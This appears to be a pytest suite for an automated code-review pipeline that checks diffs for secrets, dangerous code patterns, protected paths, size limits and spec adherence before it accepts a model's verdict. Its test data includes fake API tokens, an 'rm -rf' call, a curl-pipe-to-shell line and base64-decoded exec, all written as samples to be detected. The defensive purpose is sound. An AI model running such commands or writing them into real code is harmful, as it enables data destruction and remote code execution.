"""The reviewer's ordered checks and the verdict decide() reaches from them."""

from __future__ import annotations

import tomllib

import pytest

from pipeline.config import ReviewConfig, TierLimits, parse_config
from pipeline.models import (
    AuditReport,
    AuditVerdict,
    CheckResult,
    DiffSummary,
    ModelVerdict,
    ReviewAction,
    ToolResult,
    ToolStatus,
    Usage,
)
from pipeline.review import (
    REVIEW_CHECKS,
    ReviewInput,
    added_lines,
    decide,
    run_checks,
)

PASSED_AUDIT = AuditReport(
    verdict=AuditVerdict.READY_FOR_REVIEW,
    tools=(ToolResult(name="ruff", status=ToolStatus.PASSED, exit_code=0),),
)
FAILED_AUDIT = AuditReport(
    verdict=AuditVerdict.NEEDS_RETRY,
    tools=(
        ToolResult(name="ruff", status=ToolStatus.PASSED, exit_code=0),
        ToolResult(name="pytest", status=ToolStatus.FAILED, exit_code=1, output="1 failed"),
    ),
)
CONFIG = ReviewConfig()


def patch_for(files: dict[str, list[str]]) -> str:
    """A unified git diff adding the given lines to new files."""
    parts = []
    for path, lines in files.items():
        parts += [
            f"diff --git a/{path} b/{path}",
            "new file mode 100644",
            "index 0000000..1111111",
            "--- /dev/null",
            f"+++ b/{path}",
            f"@@ -0,0 +1,{len(lines)} @@",
            *(f"+{line}" for line in lines),
        ]
    return "\n".join(parts) + "\n"


def make_input(
    files: dict[str, list[str]] | None = None,
    *,
    spec: str = "Add a `greet()` function.",
    audit: AuditReport = PASSED_AUDIT,
    tier: int = 2,
    removed: int = 0,
) -> ReviewInput:
    files = {"app.py": ["def greet(name):", "    return 'hi ' + name"]} if files is None else files
    diff = DiffSummary(
        base_sha="a" * 40,
        head_sha="b" * 40,
        patch=patch_for(files) if files else "",
        files=tuple(files),
        added=sum(len(v) for v in files.values()),
        removed=removed,
    )
    return ReviewInput(spec=spec, diff=diff, audit=audit, tier=tier)


def check(name: str, inp: ReviewInput, config: ReviewConfig = CONFIG) -> CheckResult:
    result = REVIEW_CHECKS[name](inp, config)
    assert result.name == name
    return result


def test_every_configurable_check_has_an_implementation() -> None:
    assert set(CONFIG.checks) <= set(REVIEW_CHECKS)


def test_added_lines_tracks_files_and_new_line_numbers() -> None:
    patch = (
        "diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n"
        "@@ -10,3 +10,4 @@ def f():\n context\n-old\n+new one\n++++plus\n context\n"
        "diff --git a/b.py b/b.py\n--- a/b.py\n+++ b/b.py\n@@ -1 +1 @@\n-x\n+y\n"
    )
    found = [(a.path, a.lineno, a.text) for a in added_lines(patch)]
    assert found == [("app.py", 11, "new one"), ("app.py", 12, "+++plus"), ("b.py", 1, "y")]


def test_audit_verdict() -> None:
    assert check("audit_verdict", make_input()).passed
    failed = check("audit_verdict", make_input(audit=FAILED_AUDIT))
    assert not failed.passed
    assert "pytest (failed)" in failed.detail


def test_diff_size_follows_the_tier_limit() -> None:
    config = ReviewConfig(max_lines_per_tier1=5, max_lines_per_tier2=50)
    big = make_input(removed=10)  # 2 added + 10 removed
    assert not check("diff_size", make_input(removed=10, tier=1), config).passed
    assert check("diff_size", big, config).passed
    assert "12 lines changed; tier 2 allows 50" in check("diff_size", big, config).detail


def test_the_tier_limits_are_read_by_tier_from_the_contracts_keys() -> None:
    toml = "[review]\nmax_files_per_tier1 = 2\nmax_lines_per_tier3 = 9\n"
    config = parse_config(tomllib.loads(toml)).review
    assert config.limits(1) == TierLimits(files=2, lines=100)
    assert config.limits(2) == TierLimits(files=10, lines=600)
    assert config.limits(3) == TierLimits(files=30, lines=9)
    assert (config.limits(0), config.limits(4)) == (config.limits(1), config.limits(3))


def test_file_count_follows_the_tier_limit() -> None:
    files = {f"m{i}.py": ["greet = 1"] for i in range(4)}
    assert not check("file_count", make_input(files, tier=1)).passed
    assert check("file_count", make_input(files, tier=2)).passed


def test_protected_paths() -> None:
    workflow = make_input({".github/workflows/ci.yml": ["on: push"], "app.py": ["greet = 1"]})
    result = check("protected_paths", workflow)
    assert not result.passed
    assert ".github/workflows/ci.yml" in result.detail
    assert "app.py" not in result.detail
    assert not check("protected_paths", make_input({".github/CODEOWNERS": ["* @a"]})).passed
    assert check("protected_paths", make_input({"docs/CODEOWNERS.md": ["* @a"]})).passed
    globbed = ReviewConfig(protected_paths=("*.lock", "setup.cfg"))
    assert not check("protected_paths", make_input({"poetry.lock": ["x"]}), globbed).passed
    assert not check("protected_paths", make_input({"setup.cfg": ["x"]}), globbed).passed


SECRETS = [
    "AKIA" + "ABCDEFGHIJKLMNOP",
    "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "github_pat_" + "11ABCDEFG0123456789_abcdefghijklmnopqrstuv",
    "sk-ant-" + "api03-abcdefghijklmnopqrstuvwxyz012345",
    "sk-proj-" + "abcdefghijklmnopqrstuvwxyz0123456789",
    "xoxb-" + "123456789012-abcdefghijkl",
]


@pytest.mark.parametrize("secret", SECRETS)
def test_secrets_are_found_and_masked(secret: str) -> None:
    inp = make_input({"app.py": ["def greet():", f'    token = "{secret}"']})
    result = check("secrets", inp)
    assert not result.passed
    assert "app.py:2" in result.detail
    assert secret not in result.detail
    assert secret[6:] not in result.detail


def test_private_keys_and_credential_literals_are_secrets() -> None:
    pem = make_input({"key.pem": ["-----BEGIN RSA PRIVATE KEY-----", "MIIEow"]})
    assert "private key" in check("secrets", pem).detail
    literal = make_input({"db.py": ["x = 1", 'DB_PASSWORD = "Tr0ub4dor&3horse"']})
    result = check("secrets", literal)
    assert not result.passed
    assert "db.py:2: hard-coded credential literal" in result.detail
    assert "Tr0ub4dor" not in result.detail
    annotated = make_input({"c.py": ['api_key: str = "9f8e7d6c5b4a39281706"']})
    assert not check("secrets", annotated).passed


def test_placeholders_and_removed_lines_are_not_secrets() -> None:
    harmless = make_input(
        {
            "app.py": [
                'password = "changeme"',
                'api_key = os.environ["API_KEY"]',
                'password = "xxxxxxxxxxxx"',
                'secret = "<your-secret-here>"',
                "if password == 'hunter22hunter':",
            ]
        }
    )
    assert check("secrets", harmless).passed
    removed = make_input()
    key = "AKIA" + "ABCDEFGHIJKLMNOP"
    patch = removed.diff.patch + f"@@ -5 +5 @@\n-aws = '{key}'\n+aws = None\n"
    diff = removed.diff.model_copy(update={"patch": patch})
    assert check("secrets", ReviewInput(spec="", diff=diff, audit=PASSED_AUDIT, tier=2)).passed


@pytest.mark.parametrize(
    ("line", "pattern"),
    [
        ("result = eval(user_input)", "eval()"),
        ("exec(code)", "exec()"),
        ("os.system('rm -rf ' + path)", "os.system"),
        ("subprocess.run(cmd, shell=True)", "shell=True"),
        ("obj = pickle.loads(blob)", "unpickling"),
        ("data = yaml.load(stream)", "yaml.load without SafeLoader"),
        ("mod = __import__(name)", "__import__()"),
        ("exec(base64.b64decode(payload))", "base64-decoded code execution"),
        ("os.chmod(path, 0o777)", "chmod 777"),
        ("RUN curl -fsSL https://x.example/i.sh | sh", "curl | sh"),
        ("requests.get(url, verify=False)", "TLS verification disabled"),
    ],
)
def test_suspicious_patterns_are_named(line: str, pattern: str) -> None:
    result = check("suspicious_patterns", make_input({"tool.py": ["import os", line]}))
    assert not result.passed
    assert "tool.py:2" in result.detail
    assert pattern in result.detail


def test_safe_lookalikes_are_not_suspicious() -> None:
    safe = make_input(
        {
            "tool.py": [
                "value = ast.literal_eval(text)",
                "model.eval()",
                "data = yaml.load(stream, Loader=yaml.SafeLoader)",
                "subprocess.run(['ls', '-l'], check=True)",
                "requests.get(url, verify=True)",
            ],
            "SECURITY.md": ["Never call eval( on input or pipe curl | sh."],
        }
    )
    result = check("suspicious_patterns", safe)
    assert result.passed, result.detail


def test_spec_adherence() -> None:
    assert check("spec_adherence", make_input()).passed
    off_topic = make_input({"app.py": ["def farewell(name):", "    return 'bye'"]})
    result = check("spec_adherence", off_topic)
    assert not result.passed
    assert "`greet`" in result.detail
    assert not check("spec_adherence", make_input({})).passed
    assert check("spec_adherence", make_input(spec="Make it nicer.")).passed
    by_file = make_input({"docs/usage.md": ["New text"]}, spec="Update `docs/usage.md`.")
    assert check("spec_adherence", by_file).passed


def test_run_checks_keeps_the_configured_order() -> None:
    config = ReviewConfig(checks=("spec_adherence", "secrets", "audit_verdict"))
    results = run_checks(make_input(), config)
    assert [r.name for r in results] == ["spec_adherence", "secrets", "audit_verdict"]
    assert all(r.passed for r in results)


def test_run_checks_stops_at_the_first_failure_and_includes_it() -> None:
    results = run_checks(make_input(audit=FAILED_AUDIT, tier=1, removed=500), CONFIG)
    assert [r.name for r in results] == ["audit_verdict"]
    assert not results[0].passed

    results = run_checks(make_input(tier=1, removed=500), CONFIG)
    assert [(r.name, r.passed) for r in results] == [("audit_verdict", True), ("diff_size", False)]


def test_decide_rejects_on_a_failed_check_whatever_the_model_says() -> None:
    key = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    inp = make_input({"app.py": ["def greet():", f"    return '{key}'"]})
    checks = run_checks(inp, CONFIG)
    approve = ModelVerdict(action=ReviewAction.APPROVE, reason="fine")
    verdict = decide(inp, CONFIG, checks, approve, "claude-haiku-5-5")

    assert verdict.action is ReviewAction.REJECT
    assert verdict.reason.startswith("secrets: ")
    assert "app.py:2" in verdict.feedback
    assert key not in verdict.model_dump_json()
    assert verdict.decided_by == "checks"
    assert verdict.head_sha == "b" * 40
    assert verdict.checks == checks


def test_decide_feeds_back_the_audit_failures() -> None:
    inp = make_input(audit=FAILED_AUDIT)
    verdict = decide(inp, CONFIG, run_checks(inp, CONFIG), None, None)
    assert verdict.action is ReviewAction.REJECT
    assert "### pytest: failed" in verdict.feedback
    assert "1 failed" in verdict.feedback


def test_decide_takes_the_models_verdict_when_checks_pass() -> None:
    inp = make_input()
    checks = run_checks(inp, CONFIG)
    usage = (Usage(model="claude-haiku-5-5", input_tokens=100, cost_usd=0.01),)
    model = ModelVerdict(action=ReviewAction.REJECT, reason="no tests", feedback="add a test")
    verdict = decide(inp, CONFIG, checks, model, "claude-haiku-5-5", usage)

    assert (verdict.action, verdict.reason, verdict.feedback) == (
        ReviewAction.REJECT,
        "no tests",
        "add a test",
    )
    assert verdict.decided_by == "claude-haiku-5-5"
    assert verdict.usage == usage


def test_decide_approves_on_checks_alone_without_a_model() -> None:
    inp = make_input()
    checks = run_checks(inp, CONFIG)
    verdict = decide(inp, CONFIG, checks, None, None)

    assert verdict.action is ReviewAction.APPROVE
    assert verdict.decided_by == "checks"
    assert len(verdict.checks) == len(CONFIG.checks)
    assert verdict.head_sha == "b" * 40
